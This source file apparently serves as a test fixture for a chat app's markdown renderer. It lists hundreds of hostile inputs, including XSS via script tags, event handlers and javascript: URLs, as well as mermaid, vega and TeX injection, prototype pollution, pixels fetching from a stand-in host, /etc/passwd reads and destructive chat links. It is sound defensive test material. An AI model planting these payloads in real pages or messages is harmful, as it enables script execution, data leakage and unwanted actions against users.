/**
 * What a message may hold when somebody means harm: by the classes of security.md X, I and M. Whatever runs calls `canary()`,
 * whatever fetches asks `hostile.example`, so that both are seen.
 */

export const hostileClasses = [
  'html',
  'svg',
  'scheme',
  'entity',
  'image',
  'reference',
  'disguise',
  'internal-link',
  'footnote',
  'info-string',
  'nesting',
  'unicode',
  'special-block',
  'mermaid',
  'vega',
  'maths',
  'json',
  'csv',
] as const;
export type HostileClass = (typeof hostileClasses)[number];

export interface HostileCase {
  /** Class and number; stands as a heading before the case. */
  id: string;
  class: HostileClass;
  markdown: string;
}

/** Where everything hostile would be fetched from. */
export const hostileHost = 'hostile.example';

const run = 'canary()';
const site = `https://${hostileHost}`;
const raw = String.raw;
const fence = (language: string, ...lines: string[]) => `\`\`\`${language}\n${lines.join('\n')}\n\`\`\``;
const json = (language: string, value: unknown) => fence(language, JSON.stringify(value, null, 1));

const html = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${site}/a.js></SCRIPT>`,
  `<script\u00a0>${run}</script>`,
  `<script/src="${site}/a.js"/>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>\n\n${run}\n\n</script>`,
  `<script type="module">import "${site}/a.js"</script>`,
  `<script type="importmap">{"imports":{"x":"${site}/a.js"}}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${site}/p.gif">`,
  `<img srcset="${site}/p.gif 1x">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror\n=\n"${run}">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<picture><source srcset="${site}/p.gif"><img></picture>`,
  `<video src="${site}/v" autoplay onerror=${run}></video>`,
  `<video poster="${site}/p.gif"></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<video><source onerror="${run}" src=x></video>`,
  `<track src="${site}/t" default>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${site}"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="${site}/o" type="text/html"></object>`,
  `<embed src="${site}/e.swf">`,
  `<applet code="a" codebase="${site}"></applet>`,
  `<base href="${site}/">`,
  `<meta http-equiv="refresh" content="0;url=${site}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel="stylesheet" href="${site}/a.css">`,
  `<link rel="preconnect" href="${site}">`,
  `<link rel="dns-prefetch" href="//${hostileHost}">`,
  `<link rel="prefetch" href="${site}/a"><link rel="modulepreload" href="${site}/a.js">`,
  `<style>@import "${site}/a.css";</style>`,
  `<style>body{background:url(${site}/p.gif)} *{display:none!important}</style>`,
  `<div style="background-image:url(${site}/p.gif)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>`,
  `<form action="${site}"><input name=q value=1><button>Send</button></form>`,
  `<button formaction="javascript:${run}" form="stoa-composer">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<body onload=${run}>`,
  `<html onmouseover=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div onpointerenter=${run} style="width:999px;height:999px">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="${site}" ping="${site}/ping">x</a>`,
  `<a id=location name=location href="x">x</a>`,
  `<form id=document><input name=cookie><img name=body></form>`,
  `<map name=m><area shape=default href="javascript:${run}"></map>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<textarea></textarea><script>${run}</script></textarea>`,
  `<title></title><script>${run}</script>`,
  `<xmp><script>${run}</script></xmp>`,
  `<plaintext><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<x-element onclick=${run} is=x>x</x-element>`,
  `<dialog open oncancel=${run}>x</dialog><button popovertarget=p>x</button><div popover id=p>x</div>`,
  `<p contenteditable onbeforeinput=${run} accesskey=x tabindex=1>x</p>`,
  `<img src=x:x onerror=${run}//`,
  `<div\n\n<script>${run}</script>`,
  `<details><summary>\n\n<img src=x onerror=${run}>\n\n</summary></details>`,
  `> <script>\n> ${run}\n> </script>`,
  `- <script>${run}</script>\n  - <img src=x onerror=${run}>`,
  `| <script>${run}</script> | b |\n| --- | --- |\n| <img src=x onerror=${run}> | <b onclick=${run}>x</b> |`,
  `# <img src=x onerror=${run}>`,
  `**<img src=x onerror=${run}>**`,
  '`<img src=x onerror=canary()>`<img src=x onerror=canary()>',
];

const svg = [
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${site}/a.js" xlink:href="${site}/a.js"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><image href="${site}/p.gif" /></svg>`,
  `<svg><use href="${site}/a.svg#x" /></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdjYW5hcnkoKScvPg==#x" /></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${site}/a.css"</style></svg>`,
  `<svg><feImage href="${site}/p.gif" /></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
  `<math href="javascript:${run}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline#${site}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  fence('svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`),
  fence('html', `<script>${run}</script><img src="${site}/p.gif">`),
  fence(
    'xml',
    `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run}</h:script></x>`,
  ),
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://${hostileHost}/%0a${run}`,
  `javascript:${run}//https://example.org`,
  `java%0ascript:${run}`,
  `java&#10;script:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `\\javascript:${run}`,
  `%6aavascript:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\u200bjavascript:${run}`,
  `\ufeffjavascript:${run}`,
  `ｊavascript:${run}`,
  `jav\u00adascript:${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `mocha:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:application/xhtml+xml,<x/>`,
  `DATA:TEXT/HTML,x`,
  `blob:https://${hostileHost}/1`,
  `filesystem:https://${hostileHost}/x`,
  `file:///etc/passwd`,
  `ftp://${hostileHost}/x`,
  `ws://${hostileHost}/x`,
  `chrome://settings`,
  `about:blank`,
  `ms-word:ofe|u|${site}/a.docx`,
  `intent://x#Intent;scheme=https;end`,
  `//${hostileHost}/x`,
  `\\\\${hostileHost}\\x`,
  `/api/auth/sign-out`,
  `../../api/auth/sign-out`,
  `?theme=dark`,
  `mailto:a@${hostileHost}?cc=b@${hostileHost}&bcc=c@${hostileHost}&attach=/etc/passwd`,
  `mailto:a@b.example%0d%0aBcc:c@${hostileHost}`,
];

const scheme = addresses.flatMap((address, index) => {
  const escaped = address.replaceAll('>', '%3E').replaceAll('<', '%3C').replaceAll(' ', '%20');
  const forms = [
    `[press](${escaped})`,
    `[press](<${escaped}> "title")`,
    `<${escaped}>`,
    `[press][r${index}]\n\n[r${index}]: <${escaped}> 'title'`,
  ];
  // Each address as a link and in one other form.
  return [forms[0] ?? '', forms[1 + (index % 3)] ?? ''];
});

const entity = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  raw`\<script>canary()\</script>`,
  raw`\x3cscript\x3ecanary()\x3c/script\x3e`,
  `&NewLine;&Tab;&colon;&lpar;&rpar;&#0;&#xFFFFFFFF;&#xD800;`,
  `[x](https://example.org/"onmouseover="${run})`,
  `[x](https://example.org/'onmouseover='${run} "t")`,
  `[x](https://example.org "&quot; onmouseover=&quot;${run}")`,
  `![x" onerror="${run}](https://${hostileHost}/p.gif "&quot; onload=&quot;${run}")`,
  `[<img src=x onerror=${run}>](https://example.org)`,
  `[x](https://example.org/<script>${run}</script>)`,
  `<https://example.org/"><script>${run}</script>>`,
  `https://example.org/"onmouseover="${run}`,
  `www.example.org/<img/src=x/onerror=${run}>`,
  `a@example.org"onmouseover="${run}`,
];

const image = [
  `![pixel](${site}/p.gif)`,
  `![pixel](<${site}/p.gif?a=b c>)`,
  `![pixel][p]\n\n[p]: ${site}/p.gif`,
  `![][p2]\n\n[p2]: <${site}/p.gif> "title"`,
  `![](//${hostileHost}/p.gif)`,
  `![](http://${hostileHost}/p.gif)`,
  `![a ![b](${site}/inner.gif) c](${site}/outer.gif)`,
  `[![badge](${site}/badge.svg)](${site}/go)`,
  `[![badge](javascript:${run})](javascript:${run})`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J2NhbmFyeSgpJy8+)`,
  `![x](data:image/svg+xml,%3Csvg%20onload=canary()%3E)`,
  `![x](data:text/html,<script>${run}</script>)`,
  `![x](data:image/png;base64,AAAA"onerror="${run})`,
  `![x](blob:https://${hostileHost}/1)`,
  `![x](/api/external/image?url=${encodeURIComponent(`${site}/p.gif`)})`,
  `![x](/api/auth/sign-out)`,
  `![x](https://user:secret@${hostileHost}/p.gif)`,
  `![x](https://${hostileHost}:8443/p.gif#${'a'.repeat(200)})`,
  `| ![a](${site}/1.gif) | ![b](${site}/2.gif) |\n| --- | --- |\n| ![c](${site}/3.gif) | ![d](${site}/4.gif) |`,
  `![x]( ${site}/p.gif\n"a title\nin lines")`,
  `!\\[x](${site}/p.gif) \\![x](${site}/p.gif)`,
];

const reference = [
  `[a]: javascript:${run}\n\n[a]`,
  `[a][]\n\n[a]:\njavascript:${run}`,
  `[a]: <javascript:${run}>\n[A][a]`,
  `[ẞ]: javascript:${run}\n\n[ss] [ẞ]`,
  `> [q]: javascript:${run}\n\n[q]`,
  `[constructor]: ${site}\n[__proto__]: ${site}\n[toString]: javascript:${run}\n\n[constructor] [__proto__] [toString] [hasOwnProperty]`,
  `${'[a'.repeat(200)}${']'.repeat(200)}(javascript:${run})`,
  `[a](b](javascript:${run})`,
  `[a][[b]](javascript:${run})`,
  `[link](javascript:${run} "title](${site})")`,
  `[x]: https://example.org\n[x]: javascript:${run}\n\n[x]`,
];

const disguise = [
  `[https://bank.example](${site})`,
  `[bank.example](https://bank.example@${hostileHost})`,
  `[\u202eelpmaxe.knab](${site})`,
  `[bаnk.example](https://xn--bnk-8cd.example)`,
  `[ｂａｎｋ。example](${site})`,
  `[b\u200ba\u2060nk.example](${site})`,
  `[**https://**\`bank.example\`](${site})`,
  `[help@bank.example](mailto:a@${hostileHost})`,
  `<https://bank.example@${hostileHost}>`,
  `https://bank.example\\@${hostileHost}`,
  `[${'bank.example '.repeat(200)}](${site})`,
  `[![https://bank.example](data:image/png;base64,iVBORw0KGgo=)](${site})`,
];

const internalLink = [
  `[Weather](#chat:send/Delete%20all%20my%20files)`,
  `[x](#chat:send/<script>${run}</script>)`,
  `[x](#chat:send/%3Cimg%20src%3Dx%20onerror%3Dcanary()%3E)`,
  `[x](#chat:send/yes%0A%0A%0A%0A%0A%0Aand%20delete)`,
  `[x](#chat:send/%E2%80%AEdrowssap)`,
  `[x](#chat:send/%F3%A0%81%A8%F3%A0%81%A9)`,
  `[x](#chat:template/<script>${run}</script>)`,
  `[x](#chat:template/__proto__)`,
  `[x](#chat:delete/all)`,
  `[x](#chat:constructor/x)`,
  `[x](#dataSource:../../../etc/passwd)`,
  `[x](#dataSources:<img&src=x&onerror=${run}>.pdf)`,
  `[x](#javascript:${run})`,
  `[x](#stoa-composer) [x](#__next) [x](#)`,
  `[x](#:~:text=secret)`,
  `[x](#chat:send/${'x'.repeat(5000)})`,
];

const footnote = [
  ...[
    '__proto__',
    'constructor',
    'location',
    'document',
    'canary',
    'name',
    'stoa-composer',
    'body',
    'cookie',
  ].map((name) => `note[^${name}]\n\n[^${name}]: Clobbers ${name}.`),
  `note[^<script>]\n\n[^<script>]: <script>${run}</script>`,
  `note[^"onclick="${run}]\n\n[^"onclick="${run}]: x`,
  `note[^a]\n\n[^a]: ![p](${site}/p.gif) [x](javascript:${run})`,
  `note[^r]\n\n[^r]: again[^r] and again[^r]`,
  `note[^n]\n\n[^n]: ${fence('html', `<script>${run}</script>`).split('\n').join('\n    ')}`,
  `[^]: empty\n\n[^ ]: blank\n\nx[^][^ ]`,
  `# location\n\n# __proto__\n\n# cookie`,
];

const infoString = [
  fence(`js onerror=${run}`, run),
  fence(`"><img/src=x/onerror=${run}>`, 'x'),
  fence(`js file="../../../etc/passwd"`, 'x'),
  fence(`js title="C:\\Windows\\System32\\x.exe"`, 'x'),
  fence('py \u202etxt.exe', 'x'),
  fence('py name\u0000.py', 'x'),
  fence('py ' + 'n'.repeat(5000), 'x'),
  fence('x'.repeat(5000), 'x'),
  fence('__proto__', 'x'),
  fence('constructor', 'x'),
  fence('hasOwnProperty', 'x'),
  fence('toString', 'x'),
  fence('language-js class="fixed inset-0"', 'x'),
  fence('../../grammars/js', 'x'),
  fence(`js {${run}}`, 'x'),
  fence('diff', `- <script>${run}</script>`, `+ <img src=x onerror=${run}>`),
  fence('js', `const a = "</code></pre><script>${run}</script>";`, '`'.repeat(2)),
  fence('js filename=<script>canary()</script>.js', '// <img src=x onerror=canary()>'),
  `~~~html\n<script>${run}</script>\n~~~`,
  `\`\`\`js\nnever closed <script>${run}</script>`,
];

const nesting = [
  `${'> '.repeat(300)}deep`,
  Array.from({ length: 120 }, (_, depth) => `${'  '.repeat(depth)}- level`).join('\n'),
  `${'*'.repeat(4000)}x`,
  `${'_a'.repeat(2000)}`,
  `${'**a'.repeat(800)}`,
  `${'['.repeat(3000)}`,
  `${'![['.repeat(800)}`,
  `${'<'.repeat(4000)}`,
  `${'`'.repeat(4001)}x`,
  `${'a@'.repeat(1500)}b`,
  `${'http://'.repeat(600)}`,
  `|${' a |'.repeat(300)}\n|${' - |'.repeat(300)}\n|${' <b> |'.repeat(300)}`,
  `${'$'.repeat(2000)}`,
  `x${' '.repeat(5000)}x`,
  `${'&amp;'.repeat(1500)}`,
  `${'[a](b'.repeat(600)}`,
  `${'\\'.repeat(3000)}`,
  `${'1. '.repeat(300)}x`,
  `${'~~a'.repeat(700)}`,
  `${'| a '.repeat(20)}|\n`.repeat(60),
];

const unicode = [
  '\u202e\u202d\u2066turned around\u2069 \u202c and back',
  `z${'\u0301'.repeat(500)}algo`,
  `\u0000\u0001\u0008\u000b\u001b[31m\u007f\u0085\u2028\u2029`,
  `\ud83d broken \ude00 halves`,
  `\u{e0001}\u{e0068}\u{e0069}\u{e007f} hidden tags`,
  '\ufeff\u200b\u2060\u180e\u3164\uffa0 nothing to see',
  '﷽'.repeat(200),
  `ﬁ ＜script＞${run}＜／script＞ ‹script›`,
  `\u00adscript\u00ad \u0130\u0131 ſcript`,
  `${'👩‍👩‍👧‍👦'.repeat(60)}`,
  `<\u0000script>${run}</\u0000script>`,
  `<\u2028script>${run}</script>`,
  `مرحبا <script>${run}</script> שלום [قابل](javascript:${run})`,
  '\u0489'.repeat(400),
  `${'\u2003'.repeat(800)}x`,
];

const specialBlock = [
  fence('auto', `do("/deleteEverything", "all")`),
  fence('auto', `deleteConversation("*")`, `createPrompt(${run})`, `/constructor.constructor("${run}")()`),
  fence('auto', '__proto__.polluted("yes")', 'constructor("x")'),
  fence('auto', `(${'('.repeat(2000)}`),
  fence('auto', `op("\\u003cscript>${run}\\u003c/script>")`),
  json('invoke', { name: 'tellUser', payload: { message: `<script>${run}</script>` } }),
  json('invoke', { name: '../../auth/sign-out', payload: {} }),
  fence('invoke', `{name: "x", payload: {"__proto__": {"polluted": true}}, thought: "${run}"}`),
  fence('invoke', `{name: (() => ${run})()}`),
  fence(
    'op',
    '_id: /deleteEverything',
    '_title: Weather',
    `_button: <img src=x onerror=${run}>`,
    's_password: x',
    `note: <script>${run}</script>`,
  ),
  fence('op', '_id: __proto__', '_title: \u202eeltit', 'constructor: x', '__proto__: {"a":1}', 'toString: 1'),
  fence('op', `_id: x`, `args: {"a":${'{"b":'.repeat(300)}1${'}'.repeat(300)}}`),
  fence('op', ...Array.from({ length: 300 }, (_, index) => `field${index}: v`)),
  json('autoArtifacts', {
    instructions: 'x',
    id: '../../x',
    name: `<script>${run}</script>`,
    description: run,
    type: 'html',
  }),
  json('autoArtifacts', { id: '__proto__', name: 'constructor', type: 'svg', includeArtifactsId: ['../..'] }),
  json('assistant', {
    name: `<img src=x onerror=${run}>`,
    description: 'd',
    instructions: `[x](javascript:${run})`,
  }),
  fence('assistant', 'name: ../../x', 'description: \u202e', `instructions: <script>${run}</script>`),
  fence('toggle', `<script>${run}</script>`, `![p](${site}/p.gif)`, '```auto', 'do("x")'),
  json('APIkey', {
    OP: 'CREATE',
    DATA: {
      account: `<script>${run}</script>`,
      appName: run,
      accessTypes: ['full_access'],
      rateLimit: { period: 'Unlimited' },
      systemUse: true,
    },
  }),
  json('APIkey', { OP: 'DEACTIVATE', DATA: [{ id: '*', name: 'all of them' }] }),
  json('APIkey', { OP: 'constructor', DATA: null }),
  json('APIkey', {
    OP: 'GET',
    DATA: Array.from({ length: 300 }, (_, index) => ({ id: `${index}`, name: 'k' })),
  }),
  fence('APIkey', '{"OP":"CREATE","DATA":'),
  fence('APIdoc', '{}'),
  json('APIdoc', { url: `${site}/doc.pdf`, postman: `javascript:${run}` }),
  json('apiResult', { html: `<script>${run}</script>`, url: `${site}/p.gif`, __proto__: null }),
  fence('apiResult', `<img src=x onerror=${run}>`),
  json('agent', { run }),
  fence('jupyter', run),
  json('integrationsDialog', { open: true }),
  json('mcp_result', { html: `<script>${run}</script>` }),
];

const mermaid = [
  fence('mermaid', 'graph TD', `A-->B`, `click A "javascript:${run}"`),
  fence('mermaid', 'graph TD', `A-->B`, `click A href "javascript:${run}" _self`),
  fence('mermaid', 'graph TD', `A-->B`, `click A href "${site}" _blank`),
  fence('mermaid', 'graph TD', `A-->B`, `click A call canary()`),
  fence('mermaid', 'graph TD', `A-->B`, `click A canary`),
  fence(
    'mermaid',
    `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%`,
    'graph TD',
    `A["<img src=x onerror=${run}>"]`,
  ),
  fence('mermaid', `%%{init: {"themeCSS": "* { background: url(${site}/p.gif) }"}}%%`, 'graph TD', 'A-->B'),
  fence(
    'mermaid',
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;} @import url(${site}/a.css); x {"}}}%%`,
    'graph TD',
    'A-->B',
  ),
  fence('mermaid', `%%{init: {"fontFamily": "x; background: url(${site}/p.gif)"}}%%`, 'graph TD', 'A-->B'),
  fence(
    'mermaid',
    `%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script"], "ADD_ATTR": ["onload"]}}}%%`,
    'graph TD',
    `A["<script>${run}</script>"]`,
  ),
  fence('mermaid', `%%{init: {"__proto__": {"polluted": true}}}%%`, 'graph TD', 'A-->B'),
  fence(
    'mermaid',
    '---',
    'config:',
    '  securityLevel: loose',
    '  htmlLabels: true',
    '---',
    'graph TD',
    `A["<b onmouseover=${run}>x</b>"]`,
  ),
  fence('mermaid', 'graph TD', `A["<img src='${site}/p.gif'>"]`),
  fence('mermaid', 'graph TD', `A["<svg onload=${run}>"]`),
  fence('mermaid', 'graph TD', `A["<iframe srcdoc='<script>parent.${run}</script>'></iframe>"]`),
  fence('mermaid', 'graph TD', `A["<a href='javascript:${run}'>x</a>"]`),
  fence('mermaid', 'graph TD', `A["<style>@import url(${site}/a.css)</style>"]`),
  fence('mermaid', 'graph TD', `A["&lt;img src=x onerror=${run}&gt;"]`),
  fence('mermaid', 'graph TD', 'A["`**<img src=x onerror=canary()>**`"]'),
  fence('mermaid', 'graph TD', `A@{ img: "${site}/p.gif", label: "x", pos: "t", w: 60, h: 60 }`),
  fence('mermaid', 'graph TD', 'A-->B', `style A fill:url(${site}/p.gif),background:url(${site}/p.gif)`),
  fence('mermaid', 'graph TD', 'A-->B', `classDef x fill:#fff,stroke:url(${site}#a)`, 'class A x'),
  fence('mermaid', 'graph TD', 'A-->B', `linkStyle 0 stroke:url(${site}#a)`),
  fence(
    'mermaid',
    'sequenceDiagram',
    `participant A as <img src=x onerror=${run}>`,
    `A->>A: <script>${run}</script>`,
    `link A: x @ javascript:${run}`,
    `links A: {"x": "javascript:${run}"}`,
  ),
  fence(
    'mermaid',
    'classDiagram',
    `class A["<img src=x onerror=${run}>"]`,
    `click A href "javascript:${run}"`,
    `callback A "canary"`,
  ),
  fence('mermaid', 'stateDiagram-v2', `a: <script>${run}</script>`, `a --> b: <img src=x onerror=${run}>`),
  fence('mermaid', 'erDiagram', `"<img src=x onerror=${run}>" ||--o{ B : "<script>"`),
  fence(
    'mermaid',
    'gantt',
    `title <script>${run}</script>`,
    'section s',
    'a :a1, 2026-01-01, 1d',
    `click a1 href "javascript:${run}"`,
    'click a1 call canary()',
  ),
  fence('mermaid', 'pie title <script>canary()</script>', `"<img src=x onerror=${run}>" : 1`),
  fence('mermaid', 'mindmap', `  root((<img src=x onerror=${run}>))`, `    ::icon(fa fa-x" onload="${run})`),
  fence(
    'mermaid',
    'journey',
    `title <script>${run}</script>`,
    'section s',
    `x<img src=x onerror=${run}>: 1: me`,
  ),
  fence('mermaid', 'gitGraph', `commit id: "<img src=x onerror=${run}>" tag: "<script>"`),
  fence(
    'mermaid',
    'C4Context',
    `Person(a, "<img src=x onerror=${run}>", "x", $link="javascript:${run}", $sprite="${site}/p.gif")`,
  ),
  fence('mermaid', 'block-beta', `a["<img src=x onerror=${run}>"]`),
  fence('mermaid', 'graph TD', 'A["$$\\href{javascript:canary()}{x}$$"]'),
  fence(
    'mermaid',
    'graph TD',
    ...Array.from({ length: 700 }, (_, index) => `n${index}-->n${(index * 7) % 700}`),
  ),
  fence('mermaid', 'graph TD', `A["${'x'.repeat(60_000)}"]`),
  fence('mermaid', `not a diagram <script>${run}</script>`),
  fence('mermaid', 'zenuml', `<img src=x onerror=${run}>`),
];

const values = {
  values: [
    { a: 'A', b: 1, u: `${site}/p.gif` },
    { a: `<img src=x onerror=${run}>`, b: 2, u: `javascript:${run}` },
  ],
};
const lite = { $schema: 'https://vega.github.io/schema/vega-lite/v6.json', data: values };
const bar = {
  mark: 'bar',
  encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } },
};
const full = (value: object) =>
  json('vega', { $schema: 'https://vega.github.io/schema/vega/v6.json', width: 50, height: 50, ...value });
const computed = (expression: string) =>
  json('vega-lite', { ...lite, ...bar, transform: [{ calculate: expression, as: 'c' }] });
const vega = [
  json('vega-lite', { ...bar, data: { url: `${site}/data.json` } }),
  json('vegalite', { ...bar, data: { url: '/api/auth/sign-out' } }),
  json('vega-lite', { ...bar, data: { url: 'file:///etc/passwd' } }),
  json('vega-lite', { ...bar, data: { url: 'data:application/json,[]' } }),
  json('vega-lite', { ...bar, data: { url: `//${hostileHost}/data.csv`, format: { type: 'csv' } } }),
  json('vega-lite', { $schema: `${site}/schema.json`, data: values, ...bar }),
  json('vega-lite', {
    ...lite,
    mark: { type: 'image', width: 20, height: 20 },
    encoding: { url: { field: 'u', type: 'nominal' } },
  }),
  json('vega-lite', {
    ...lite,
    ...bar,
    encoding: { ...bar.encoding, href: { field: 'u', type: 'nominal' } },
  }),
  json('vega-lite', { ...lite, ...bar, encoding: { ...bar.encoding, href: { value: `javascript:${run}` } } }),
  json('vega-lite', {
    ...lite,
    ...bar,
    title: `<img src=x onerror=${run}>`,
    description: `<script>${run}</script>`,
  }),
  json('vega-lite', {
    ...lite,
    ...bar,
    encoding: { ...bar.encoding, tooltip: { field: 'a', type: 'nominal' } },
  }),
  json('vega-lite', {
    ...lite,
    ...bar,
    usermeta: {
      embedOptions: {
        actions: true,
        ast: false,
        loader: { baseURL: site },
        mode: 'vega',
        defaultStyle: `* { background: url(${site}/p.gif) }`,
        editorUrl: site,
        sourceHeader: `<script>${run}</script>`,
        patch: [],
        bind: '#stoa-composer',
      },
    },
  }),
  json('vega-lite', {
    ...lite,
    ...bar,
    params: [{ name: 'p', bind: { input: 'text', element: 'body', name: `<img src=x onerror=${run}>` } }],
  }),
  json('vega-lite', {
    ...lite,
    ...bar,
    config: { background: `url(${site}/p.gif)`, font: `x;background:url(${site}/p.gif)` },
  }),
  json('vega-lite', { data: { lookup: 1, graticule: true }, mark: 'geoshape' }),
  json('vega-lite', {
    ...lite,
    ...bar,
    transform: [{ lookup: 'a', from: { data: { url: `${site}/l.csv` }, key: 'a' } }],
  }),
  computed(`constructor.constructor('${run}')()`),
  computed(`datum.constructor.constructor('${run}')()`),
  computed(`this.constructor.constructor('${run}')()`),
  computed(`[].map.constructor('${run}')()`),
  computed(`''['constructor']['constructor']('${run}')()`),
  computed(`datum['__proto__']['polluted'] = 1`),
  computed(`event.view.eval('${run}')`),
  computed(`window.canary()`),
  computed(`${run}`),
  computed(`replace('x', regexp('x'), '${run}')`),
  computed(`test(regexp('^(a+)+$'), '${'a'.repeat(35)}!')`),
  full({ data: [{ name: 'd', url: `${site}/data.json` }], marks: [] }),
  full({ data: [{ name: 'd', values: [{}], async: true, url: { signal: `'${site}/' + 1` } }], marks: [] }),
  full({ signals: [{ name: 's', update: `constructor.constructor('${run}')()` }], marks: [] }),
  full({
    signals: [
      { name: 's', init: `data('x').constructor`, on: [{ events: 'window:mousemove', update: run }] },
    ],
    marks: [],
  }),
  full({ signals: [{ name: 's', bind: { element: '#stoa-composer', event: 'input' } }], marks: [] }),
  full({
    marks: [
      {
        type: 'image',
        encode: { enter: { url: { value: `${site}/p.gif` }, width: { value: 20 }, height: { value: 20 } } },
      },
    ],
  }),
  full({
    marks: [
      {
        type: 'text',
        encode: {
          enter: {
            text: { value: `<script>${run}</script>` },
            href: { value: `javascript:${run}` },
            font: { value: `x"onload="${run}` },
          },
        },
      },
    ],
  }),
  full({ data: [{ name: 'd', transform: [{ type: 'sequence', start: 0, stop: 1e9 }] }], marks: [] }),
  full({
    data: [{ name: 'd', transform: [{ type: 'loop' }] }],
    signals: [
      { name: 'a', update: 'b' },
      { name: 'b', update: 'a' },
    ],
    marks: [],
  }),
  full({ width: 1e9, height: 1e9, marks: [] }),
  fence('vega-lite', `{ "data": {"values": [1,2], "mark": <script>${run}</script>`),
  fence('vega-lite', `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`),
  fence('VEGA', '[]'),
];

const tex = [
  raw`\href{javascript:canary()}{x}`,
  raw`\href{https://hostile.example}{x}`,
  raw`\url{javascript:canary()}`,
  raw`\includegraphics[height=1em]{https://hostile.example/p.gif}`,
  raw`\htmlData{onclick=canary()}{x}`,
  raw`\htmlId{location}{x}`,
  raw`\htmlClass{fixed inset-0}{x}`,
  raw`\htmlStyle{background:url(https://hostile.example/p.gif)}{x}`,
  raw`\html{<script>canary()</script>}`,
  raw`\def\a{\a\a}\a`,
  raw`\def\a#1{#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}`,
  raw`\newcommand{\x}{\x}\x`,
  raw`\edef\a{x}\edef\b{\a\a\a\a\a\a\a\a\a\a}\edef\c{\b\b\b\b\b\b\b\b\b\b}\c`,
  raw`\rule{999999em}{999999em}`,
  raw`\kern{-9999em}\raisebox{9999em}{x}`,
  raw`\text{<img src=x onerror=canary()>}`,
  raw`\text{</annotation></semantics></math><script>canary()</script>}`,
  raw`\color{red;background:url(https://hostile.example/p.gif)}x`,
  raw`\textcolor{url(https://hostile.example)}{x}`,
  raw`\unicode{x3cscript}`,
  raw`\require{html}\cssId{body}{x}`,
  raw`\gdef\canary{x}\canary`,
  raw`\char"3C \char"1F4A9 \char"FFFFFFFF`,
  raw`\begin{matrix}`.repeat(60),
  '{'.repeat(1500),
  raw`\frac`.repeat(300),
  raw`\sqrt{`.repeat(120) + '}'.repeat(120),
];
const maths = tex.flatMap((formula, index) =>
  index % 2 ? [`$$\n${formula}\n$$`] : [`in line $${formula}$ here`, fence('math', formula)],
);

const jsonBlocks = [
  fence('json', '{"__proto__": {"polluted": true}}'),
  fence('json', `{"html": "<script>${run}</script>", "url": "javascript:${run}"}`),
  fence('json', `${'['.repeat(3000)}${']'.repeat(3000)}`),
  fence('json', `{"a": "${'x'.repeat(5000)}"}`),
  fence('json', '{"constructor": {"prototype": {"polluted": true}}}'),
  fence('json5', `{toString: () => ${run}}`),
